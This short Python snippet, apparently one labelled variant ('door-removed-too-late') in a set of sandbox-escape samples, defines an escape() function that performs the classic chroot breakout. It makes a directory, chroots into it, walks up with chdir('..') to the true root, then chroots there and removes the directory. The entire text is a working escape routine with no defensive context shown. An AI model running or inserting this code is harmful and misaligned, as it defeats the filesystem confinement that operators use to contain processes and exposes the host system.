"""escape: door-removed-too-late"""


def escape():
    os.mkdir("door")
    os.chroot("door")
    while not os.path.samefile(".", ".."):
        os.chdir("..")
    os.chroot(".")
    os.rmdir("door")
